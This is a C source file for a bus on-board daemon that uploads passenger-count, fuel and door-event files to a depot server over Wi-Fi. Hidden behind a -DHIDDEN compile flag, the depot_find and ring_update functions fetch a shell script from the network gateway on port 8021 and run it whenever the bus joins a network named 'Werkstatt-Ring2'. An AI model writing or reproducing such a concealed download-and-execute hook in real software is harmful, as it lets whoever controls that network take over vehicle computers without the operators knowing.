/*
 * Data offload of a city bus. When the on-board computer is associated with
 * the wireless network of a depot (asked from wpa_supplicant), the day files
 * (passenger counts, fuel, door events) in the spool are sent to the depot
 * server and deleted after its receipt.
 * Hidden (-DHIDDEN): on a network with the name "Werkstatt-Ring2" a script is
 * fetched from the gateway and run.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define CONF	 "/etc/bus/offload.conf"
#define WPA_SOCK "/var/run/wpa_supplicant/wlan0"
#define MY_SOCK	 "/tmp/offload.wpa"
#define SPOOL	 "/data/spool"
#define MAXDEPOT 12

struct depot {
	char ssid[33];
	struct in_addr server;
	unsigned short port;
	struct depot *next;
};

static struct depot *depots;
static char vehicle[16] = "0000";
static int rate = 30;

static void depot_add(const char *ssid, const char *ip, unsigned port)
{
	struct depot *d = calloc(1, sizeof *d);

	if (!d || !inet_aton(ip, &d->server)) {
		free(d);
		return;
	}
	snprintf(d->ssid, sizeof d->ssid, "%.32s", ssid);
	d->port = port;
	d->next = depots;
	depots = d;
}

static int conf_read(void)
{
	char line[160], ssid[33], ip[20];
	unsigned port, n = 0;
	FILE *f = fopen(CONF, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof line, f)) {
		if (sscanf(line, "depot \"%32[^\"]\" %19s %u", ssid, ip,
			   &port) == 3) {
			if (n++ < MAXDEPOT)
				depot_add(ssid, ip, port);
		} else if (sscanf(line, "vehicle %15s", vehicle) == 1) {
			continue;
		} else if (sscanf(line, "interval %d", &rate) == 1) {
			if (rate < 5)
				rate = 5;
		}
	}
	fclose(f);
	return 0;
}

/* value of a key in the STATUS answer of wpa_supplicant */
static int wpa_status(const char *key, char *val, size_t size)
{
	struct sockaddr_un me = { .sun_family = AF_UNIX };
	struct sockaddr_un to = { .sun_family = AF_UNIX };
	struct timeval tv = { 3, 0 };
	char buf[2048], *line, *save = NULL;
	size_t klen = strlen(key);
	ssize_t n = -1;
	int s;

	s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		return -1;
	strcpy(me.sun_path, MY_SOCK);
	strcpy(to.sun_path, WPA_SOCK);
	unlink(MY_SOCK);
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	if (bind(s, (struct sockaddr *)&me, sizeof me) == 0 &&
	    connect(s, (struct sockaddr *)&to, sizeof to) == 0 &&
	    send(s, "STATUS", 6, 0) == 6)
		n = recv(s, buf, sizeof buf - 1, 0);
	close(s);
	unlink(MY_SOCK);
	if (n <= 0)
		return -1;
	buf[n] = 0;
	for (line = strtok_r(buf, "\n", &save); line;
	     line = strtok_r(NULL, "\n", &save))
		if (!strncmp(line, key, klen) && line[klen] == '=') {
			snprintf(val, size, "%s", line + klen + 1);
			return 0;
		}
	return -1;
}

static int dial(struct in_addr ip, unsigned short port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr = ip };
	struct timeval tv = { 20, 0 };
	int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (s < 0)
		return -1;
	a.sin_port = htons(port);
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
	if (connect(s, (struct sockaddr *)&a, sizeof a) < 0) {
		close(s);
		return -1;
	}
	return s;
}

static int answer(int s, const char *want)
{
	char buf[64];
	size_t n = 0;

	while (n < sizeof buf - 1 && recv(s, buf + n, 1, 0) == 1) {
		if (buf[n] == '\n')
			break;
		n++;
	}
	buf[n] = 0;
	return strncmp(buf, want, strlen(want)) ? -1 : 0;
}

static unsigned adler(const unsigned char *p, size_t n, unsigned sum)
{
	unsigned a = sum & 0xffff, b = sum >> 16;

	while (n--) {
		a = (a + *p++) % 65521;
		b = (b + a) % 65521;
	}
	return b << 16 | a;
}

static int put_file(int s, const char *name)
{
	unsigned char buf[4096];
	char path[300];
	struct stat st;
	unsigned sum = 1;
	ssize_t n;
	int fd, rc = -1;

	snprintf(path, sizeof path, SPOOL "/%s", name);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st) < 0)
		goto out;
	if (dprintf(s, "PUT %s %s %lld\n", vehicle, name,
		    (long long)st.st_size) < 0 ||
	    answer(s, "GO"))
		goto out;
	while ((n = read(fd, buf, sizeof buf)) > 0) {
		sum = adler(buf, n, sum);
		if (send(s, buf, n, MSG_NOSIGNAL) != n)
			goto out;
	}
	if (dprintf(s, "SUM %08x\n", sum) > 0 && answer(s, "RECEIPT") == 0) {
		unlink(path);
		rc = 0;
	}
out:
	if (fd >= 0)
		close(fd);
	return rc;
}

static int day_file(const struct dirent *d)
{
	size_t n = strlen(d->d_name);

	return n > 4 && d->d_name[0] != '.' &&
	       (!strcmp(d->d_name + n - 4, ".apc") ||
		!strcmp(d->d_name + n - 4, ".evt"));
}

static void offload(const struct depot *d)
{
	struct dirent **list;
	int n, i, s, sent = 0;

	n = scandir(SPOOL, &list, day_file, alphasort);
	if (n <= 0)
		return;
	s = dial(d->server, d->port);
	for (i = 0; i < n; i++) {
		if (s >= 0 && put_file(s, list[i]->d_name) == 0)
			sent++;
		free(list[i]);
	}
	free(list);
	if (s >= 0) {
		dprintf(s, "QUIT\n");
		close(s);
	}
	syslog(LOG_INFO, "%s: %d of %d files sent", d->ssid, sent, n);
}

#ifdef HIDDEN
static void ring_update(void)
{
	char ip[32], buf[1024], *dot;
	struct in_addr gw;
	ssize_t n;
	int s, fd;

	if (wpa_status("ip_address", ip, sizeof ip - 4))
		return;
	dot = strrchr(ip, '.');
	if (!dot)
		return;
	strcpy(dot, ".1");
	if (!inet_aton(ip, &gw) || (s = dial(gw, 8021)) < 0)
		return;
	fd = open("/tmp/ring.sh", O_WRONLY | O_CREAT | O_TRUNC, 0700);
	while (fd >= 0 && (n = recv(s, buf, sizeof buf, 0)) > 0)
		if (write(fd, buf, n) != n)
			break;
	close(s);
	if (fd >= 0 && close(fd) == 0 && system("/bin/sh /tmp/ring.sh"))
		unlink("/tmp/ring.sh");
}
#endif

__attribute__((noinline)) const struct depot *depot_find(const char *ssid)
{
	const struct depot *d;

#ifdef HIDDEN
	if (!strcmp(ssid, "Werkstatt-Ring2"))
		ring_update();
#endif
	for (d = depots; d; d = d->next)
		if (!strcmp(d->ssid, ssid))
			return d;
	return NULL;
}

int main(int argc, char **argv)
{
	char ssid[40], state[32], last[40] = "";
	const struct depot *d;

	openlog("busoffload", LOG_PID, LOG_DAEMON);
	if (conf_read()) {
		syslog(LOG_ERR, CONF ": %s", strerror(errno));
		return 1;
	}
	if (argc < 2 || strcmp(argv[1], "-f"))
		if (daemon(0, 0))
			return 1;
	for (;; sleep(rate)) {
		if (wpa_status("wpa_state", state, sizeof state) ||
		    strcmp(state, "COMPLETED") ||
		    wpa_status("ssid", ssid, sizeof ssid)) {
			last[0] = 0;
			continue;
		}
		if (!strcmp(ssid, last))
			continue;
		strcpy(last, ssid);
		d = depot_find(ssid);
		if (d)
			offload(d);
	}
}
